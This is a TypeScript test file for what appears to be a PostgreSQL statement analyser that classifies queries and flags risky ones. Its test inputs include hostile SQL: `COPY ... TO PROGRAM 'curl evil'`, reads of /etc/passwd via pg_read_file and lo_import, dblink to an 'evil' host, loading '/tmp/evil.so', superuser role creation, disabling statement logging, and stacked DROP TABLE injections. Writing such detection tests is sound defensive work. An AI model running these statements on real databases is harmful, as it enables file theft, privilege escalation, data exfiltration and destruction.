import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseStatement, loadSqlParser, splitStatements, type StatementAnalysis } from './sql-analysis.js';

await loadSqlParser();

type Expected = Partial<Omit<StatementAnalysis, 'opaqueReason'>>;

/** [statement, what the analysis must say]; fields left out are not checked. */
const CASES: readonly [string, Expected][] = [
  // Kinds
  ['SELECT * FROM users', { kind: 'select', reads: ['users'], writes: [], opaque: false, flags: [] }],
  ['select id from public.users where id = 1', { kind: 'select', reads: ['public.users'] }],
  ['SeLeCt * FrOm Users', { kind: 'select', reads: ['users'] }],
  ['SELECT * FROM "Users"', { kind: 'select', reads: ['Users'] }],
  ['SELECT * FROM "my schema"."Odd ""name"""', { reads: ['my schema.Odd "name"'] }],
  ['SELECT * FROM U&"\\0075sers"', { reads: ['users'] }],
  ['SELECT * FROM db.sch.t', { reads: ['db.sch.t'] }],
  ['VALUES (1), (2)', { kind: 'select', reads: [] }],
  ['SELECT 1 UNION SELECT id FROM a EXCEPT SELECT id FROM b', { kind: 'select', reads: ['a', 'b'] }],
  ['SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)', { reads: ['a', 'b', 'c'] }],
  ['SELECT * FROM a WHERE id IN (SELECT id FROM b WHERE EXISTS (SELECT 1 FROM c))', { reads: ['a', 'b', 'c'] }],
  ['SELECT (SELECT max(x) FROM s.t) AS m', { reads: ['s.t'], functions: ['max'] }],
  ['SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.a = a.id) x', { reads: ['a', 'b'] }],
  ['SELECT * FROM t FOR UPDATE', { kind: 'select', reads: ['t'] }],
  ['TABLE secrets', { kind: 'select', reads: ['secrets'] }],
  ['INSERT INTO t (a) VALUES (1)', { kind: 'insert', writes: ['t'], reads: [], hasWhere: undefined }],
  ['INSERT INTO audit.log SELECT * FROM staging.log', { kind: 'insert', writes: ['audit.log'], reads: ['staging.log'] }],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', { kind: 'insert', writes: ['t'] }],
  ['INSERT INTO t VALUES (1) RETURNING *', { kind: 'insert', writes: ['t'] }],
  ['UPDATE t SET a = 1 WHERE id = 2', { kind: 'update', writes: ['t'], hasWhere: true }],
  ['UPDATE t SET a = 1', { kind: 'update', writes: ['t'], hasWhere: false }],
  ['UPDATE t SET a = 1 WHERE true', { kind: 'update', hasWhere: false }],
  ['UPDATE t SET a = 1 WHERE 1 = 1', { kind: 'update', hasWhere: false }],
  ['UPDATE t SET a = s.a FROM s WHERE s.id = t.id', { kind: 'update', writes: ['t'], reads: ['s'], hasWhere: true }],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', { kind: 'update', hasWhere: true }],
  ['DELETE FROM t WHERE id = 1', { kind: 'delete', writes: ['t'], hasWhere: true }],
  ['DELETE FROM t', { kind: 'delete', writes: ['t'], hasWhere: false }],
  ['delete from ONLY public.t', { kind: 'delete', writes: ['public.t'], hasWhere: false }],
  ['DELETE FROM t USING u WHERE t.id = u.id', { kind: 'delete', writes: ['t'], reads: ['u'], hasWhere: true }],
  ['DELETE FROM t WHERE id IN (SELECT id FROM u)', { kind: 'delete', writes: ['t'], reads: ['u'], hasWhere: true }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', { kind: 'merge', writes: ['t'], reads: ['s'] }],
  ['TRUNCATE t, s.u', { kind: 'truncate', writes: ['s.u', 't'] }],
  ['TRUNCATE TABLE t CASCADE', { kind: 'truncate', writes: ['t'] }],
  ['CREATE TABLE a.b (id int REFERENCES c (id))', { kind: 'ddl', writes: ['a.b'], reads: ['c'] }],
  ['CREATE VIEW v AS SELECT * FROM secrets', { kind: 'ddl', writes: ['v'], reads: ['secrets'] }],
  ['CREATE TABLE n AS SELECT * FROM o', { kind: 'ddl', writes: ['n'], reads: ['o'] }],
  ['SELECT * INTO n FROM o', { kind: 'ddl', writes: ['n'], reads: ['o'] }],
  ['ALTER TABLE t ADD COLUMN x int', { kind: 'ddl', writes: ['t'] }],
  ['DROP TABLE a.b, c', { kind: 'ddl', writes: ['a.b', 'c'] }],
  ['DROP VIEW IF EXISTS v', { kind: 'ddl', writes: ['v'] }],
  ['DROP SCHEMA s CASCADE', { kind: 'ddl' }],
  ['CREATE INDEX i ON t (a)', { kind: 'ddl', writes: ['t'] }],
  ['CREATE EXTENSION dblink', { kind: 'ddl' }],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', { kind: 'ddl' }],
  ['ALTER TABLE t RENAME TO u', { kind: 'ddl', writes: ['t'] }],
  ['COMMENT ON TABLE t IS \'x\'', { kind: 'ddl' }],
  ['REFRESH MATERIALIZED VIEW m', { kind: 'ddl', writes: ['m'] }],
  ['GRANT SELECT ON t TO bob', { kind: 'dcl', writes: ['t'] }],
  ['REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', { kind: 'dcl' }],
  ['CREATE ROLE eve SUPERUSER', { kind: 'dcl' }],
  ['ALTER ROLE eve SUPERUSER', { kind: 'dcl' }],
  ['GRANT admin TO eve', { kind: 'dcl' }],
  ['ALTER SYSTEM SET log_statement = none', { kind: 'dcl', flags: ['setting_change'] }],
  ['BEGIN', { kind: 'transaction' }],
  ['start transaction isolation level serializable', { kind: 'transaction' }],
  ['COMMIT', { kind: 'transaction' }],
  ['ROLLBACK TO SAVEPOINT s', { kind: 'transaction' }],
  ['SET statement_timeout = 1000', { kind: 'set', flags: ['setting_change'] }],
  ['SET search_path TO evil, public', { kind: 'set', flags: ['setting_change'] }],
  ['SET ROLE admin', { kind: 'set', flags: ['role_change', 'setting_change'] }],
  ['set local role admin', { kind: 'set', flags: ['role_change', 'setting_change'] }],
  ['RESET ROLE', { kind: 'set', flags: ['role_change', 'setting_change'] }],
  ['RESET ALL', { kind: 'set', flags: ['role_change', 'setting_change'] }],
  ['SET SESSION AUTHORIZATION postgres', { kind: 'set', flags: ['role_change', 'setting_change'] }],
  ['SHOW search_path', { kind: 'show' }],
  ['EXPLAIN SELECT * FROM t', { kind: 'explain', reads: ['t'], writes: [] }],
  ['EXPLAIN DELETE FROM t', { kind: 'explain', reads: ['t'], writes: [], hasWhere: undefined }],
  ['EXPLAIN ANALYZE DELETE FROM t', { kind: 'delete', writes: ['t'], hasWhere: false }],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1', { kind: 'update', writes: ['t'], hasWhere: true }],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', { kind: 'explain', writes: [] }],
  ['PREPARE p AS DELETE FROM t', { kind: 'delete', writes: ['t'], hasWhere: false }],
  ['PREPARE q (int) AS SELECT * FROM t WHERE id = $1', { kind: 'select', reads: ['t'] }],
  ['DECLARE c CURSOR FOR SELECT * FROM t', { kind: 'select', reads: ['t'] }],
  ['FETCH 10 FROM c', { kind: 'session' }],
  ['CLOSE c', { kind: 'session' }],
  ['DEALLOCATE ALL', { kind: 'session' }],
  ['DISCARD ALL', { kind: 'session' }],
  ['LISTEN chan', { kind: 'session' }],
  ['NOTIFY chan', { kind: 'utility' }],
  ['VACUUM t', { kind: 'utility' }],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', { kind: 'utility', reads: ['t'] }],
  ['CHECKPOINT', { kind: 'utility' }],
  ['CALL s.archive(1)', { kind: 'call', functions: ['s.archive'] }],
  ['COPY t TO STDOUT', { kind: 'copy', reads: ['t'], writes: [], flags: [] }],
  ['COPY t FROM STDIN', { kind: 'copy', writes: ['t'], flags: [] }],
  ['COPY (SELECT * FROM secrets) TO STDOUT WITH (FORMAT csv)', { kind: 'copy', reads: ['secrets'] }],
  ['COPY t FROM \'/etc/passwd\'', { kind: 'copy', writes: ['t'], flags: ['copy_server_file'] }],
  ['COPY t TO \'/tmp/out\'', { kind: 'copy', reads: ['t'], flags: ['copy_server_file'] }],
  ['COPY t TO PROGRAM \'curl evil\'', { kind: 'copy', flags: ['copy_program'] }],
  ['copy t from program \'id\'', { kind: 'copy', writes: ['t'], flags: ['copy_program'] }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', { kind: 'copy', writes: ['t'], hasWhere: false }],
  // Functions
  ['SELECT now(), lower(name) FROM t', { functions: ['lower', 'now'] }],
  ['SELECT pg_read_file(\'/etc/passwd\')', { functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ['SELECT pg_catalog.pg_read_binary_file(\'x\')', { flags: ['dangerous_function'] }],
  ['SELECT "pg_read_file"(\'/etc/passwd\')', { flags: ['dangerous_function'] }],
  ['SELECT PG_READ_FILE(\'/etc/passwd\')', { flags: ['dangerous_function'] }],
  ['SELECT * FROM pg_ls_dir(\'.\')', { flags: ['dangerous_function'] }],
  ['SELECT lo_import(\'/etc/passwd\')', { flags: ['dangerous_function'] }],
  ['SELECT lo_export(1, \'/tmp/x\')', { flags: ['dangerous_function'] }],
  ['SELECT * FROM dblink_connect(\'host=evil\')', { flags: ['dangerous_function'] }],
  ['SELECT pg_terminate_backend(123)', { flags: ['dangerous_function'] }],
  ['SELECT 1 FROM t WHERE id = (SELECT length(pg_read_file(\'x\')))', { flags: ['dangerous_function'] }],
  ['SELECT set_config(\'search_path\', \'evil\', false)', { flags: ['setting_change'] }],
  ['SELECT set_config(\'role\', \'admin\', false)', { flags: ['role_change', 'setting_change'] }],
  ['SELECT set_config(\'ROLE\'::text, \'admin\', false)', { flags: ['role_change', 'setting_change'] }],
  ['SELECT set_config(name, \'admin\', false) FROM settings', { flags: ['role_change', 'setting_change'] }],
  ['UPDATE t SET a = 1 WHERE set_config(\'role\', \'x\', true) IS NOT NULL AND id = 1', { kind: 'update', flags: ['role_change', 'setting_change'] }],
  // CTEs
  ['WITH d AS (DELETE FROM public.t RETURNING *) SELECT * FROM d', { kind: 'delete', writes: ['public.t'], reads: [], hasWhere: false, flags: ['data_modifying_cte'] }],
  ['WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING id) SELECT * FROM u', { kind: 'update', writes: ['t'], hasWhere: true, flags: ['data_modifying_cte'] }],
  ['WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN b ON true', { kind: 'select', reads: ['a', 'b'] }],
  ['WITH t AS (SELECT * FROM t) SELECT * FROM t', { kind: 'select', reads: ['t'] }],
  ['WITH x AS (SELECT 1) SELECT * FROM s.x', { reads: ['s.x'] }],
  ['WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r', { reads: [] }],
  ['SELECT * FROM (WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i) q', { kind: 'insert', writes: ['log'] }],
  ['WITH a AS (SELECT * FROM b), c AS (SELECT * FROM a) SELECT * FROM c', { reads: ['b'] }],
  ['WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d', { kind: 'insert', writes: ['archive', 't'], hasWhere: false }],
  ['with "D" as (delete from t where id = 1 returning *) select * from "D"', { kind: 'delete', hasWhere: true }],
  // Comments, case, quoting, dollar quoting
  ['/* harmless */ DELETE /* from nothing */ FROM t -- where id = 1', { kind: 'delete', hasWhere: false }],
  ['SELECT \'DELETE FROM t\' AS text', { kind: 'select', writes: [] }],
  ['SELECT $x$; DROP TABLE t; $x$', { kind: 'select', writes: [] }],
  ['SELECT 1 AS "; DROP TABLE t"', { kind: 'select', writes: [] }],
  ['dElEtE fRoM T', { kind: 'delete', writes: ['t'] }],
  ['DELETE FROM "T"', { kind: 'delete', writes: ['T'] }],
  // Opaque
  ['DO $$ BEGIN EXECUTE \'DROP TABLE t\'; END $$', { kind: 'do', opaque: true, flags: ['do_block'] }],
  ['do language plpgsql $body$ begin perform 1; end $body$', { kind: 'do', opaque: true }],
  ['EXECUTE p(1)', { kind: 'execute', opaque: true, flags: ['dynamic_sql'] }],
  ['SELECT query_to_xml(\'DELETE FROM t RETURNING *\', true, true, \'\')', { opaque: true, flags: ['dynamic_sql'] }],
  ['SELECT dblink_exec(\'dbname=x\', \'DROP TABLE t\')', { opaque: true, flags: ['dangerous_function', 'dynamic_sql'] }],
  ['DEL/**/ETE FROM t', { kind: 'opaque', opaque: true, flags: ['unparseable'] }],
  ['SELEKT * FROM t', { kind: 'opaque', opaque: true, flags: ['unparseable'] }],
  ['SELECT \'unterminated', { kind: 'opaque', opaque: true }],
  ['', { kind: 'opaque', opaque: true }],
  ['SELECT 1; DROP TABLE t', { kind: 'opaque', opaque: true, flags: ['multiple_statements'] }],
  ['LOAD \'/tmp/evil.so\'', { kind: 'utility', flags: ['load_library'] }],
];

describe('analyseStatement', () => {
  for (const [sql, expected] of CASES) {
    it(sql || '(empty text)', () => {
      const analysis = analyseStatement(sql);
      const actual = Object.fromEntries(Object.keys(expected).map((key) => [key, analysis[key as keyof StatementAnalysis]]));
      assert.deepEqual(actual, expected);
    });
  }

  it('says why an opaque statement is opaque', () => {
    assert.match(analyseStatement('DO $$ BEGIN END $$').opaqueReason, /DO block/);
    assert.match(analyseStatement('SELEKT 1').opaqueReason, /could not be parsed \(syntax error at or near "SELEKT"\)/);
    assert.match(analyseStatement('EXECUTE p').opaqueReason, /prepared statement 'p'/);
    assert.equal(analyseStatement('SELECT 1').opaqueReason, '');
  });

  it('marks as text-sensitive only analyses that read a literal the fingerprint drops', () => {
    assert.equal(analyseStatement("SELECT set_config('role', 'x', false)").textSensitive, true);
    assert.equal(analyseStatement('SELECT 1').textSensitive, false);
  });
});

describe('splitStatements', () => {
  const SPLITS: readonly [string, string[]][] = [
    ['SELECT 1', ['SELECT 1']],
    ['SELECT 1;', ['SELECT 1']],
    ['SELECT 1; SELECT 2;', ['SELECT 1', 'SELECT 2']],
    ['  ;; SELECT 1 ;;; ', ['SELECT 1']],
    ["SELECT 'a;b'; SELECT \"x;y\" FROM t", ["SELECT 'a;b'", 'SELECT "x;y" FROM t']],
    ['SELECT $$;$$; SELECT $tag$ ; $tag$', ['SELECT $$;$$', 'SELECT $tag$ ; $tag$']],
    // The parser starts a statement after the comments that lead it.
    ['SELECT 1 /* ; */; -- ;\nDELETE FROM t', ['SELECT 1 /* ; */', 'DELETE FROM t']],
    ["SELECT 'é'; SELECT 'ü✓'", ["SELECT 'é'", "SELECT 'ü✓'"]],
    ['BEGIN; UPDATE t SET a = 1; COMMIT', ['BEGIN', 'UPDATE t SET a = 1', 'COMMIT']],
    ['DO $$ BEGIN PERFORM 1; END $$; SELECT 1', ['DO $$ BEGIN PERFORM 1; END $$', 'SELECT 1']],
    // The whole text does not parse: the lexer still splits it, so each piece is decided alone.
    ["SELEKT 1; DELETE FROM t; SELECT ';'", ['SELEKT 1', 'DELETE FROM t', "SELECT ';'"]],
    ['', []],
  ];
  for (const [query, expected] of SPLITS) {
    it(JSON.stringify(query), () => assert.deepEqual(splitStatements(query), expected));
  }

  it('each piece of a chained query is analysed on its own', () => {
    const kinds = splitStatements('SELECT * FROM t; DROP TABLE t; DO $$ BEGIN END $$').map((s) => analyseStatement(s).kind);
    assert.deepEqual(kinds, ['select', 'ddl', 'do']);
  });
});
